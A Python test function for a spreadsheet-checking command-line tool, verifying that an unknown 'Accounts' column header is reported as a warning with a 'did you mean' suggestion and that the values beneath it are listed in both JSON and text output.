def test_an_unknown_accounts_header_is_a_warning_with_its_values_listed(tmp_path: Path) -> None:
    """Observed: a 'Compute (vCPU)' column was dropped without a word."""
    vary = cells(
        ("Accounts!N1", "Compute (vCPU)"),  # Total CPU renamed: the TDD still gives it
        ("Accounts!AC1", "Renewal month"),
        ("Accounts!AC2", "March"),
    )
    _, workspace = start(tmp_path, vary)
    with workspace as ws:
        code, out, err = ws.cli("check", "acme", "--json")
        assert code == 0, out + err
        problems = {p["location"]: p for p in json.loads(out)["problems"]}
        renamed = problems["Accounts!N1"]
        assert renamed["severity"] == "warning"
        assert "headed 'Compute (vCPU)', which names no field" in renamed["message"]
        assert "did you mean 'Total CPU'?" in renamed["message"]
        assert "did you mean" not in problems["Accounts!AC1"]["message"]
        assert (
            problems["Accounts!N2"]["severity"] == "info"
            and "holds '64'" in problems["Accounts!N2"]["message"]
        )
        assert "holds 'March' under 'Renewal month'" in problems["Accounts!AC2"]["message"]
        assert "Accounts!G1" not in problems and "Accounts!Y1" not in problems  # Slack Channel, Comments
        code, out, _ = ws.cli("check", "acme")
        assert "Compute (vCPU)" in out and "March" in out  # the text report lists them too
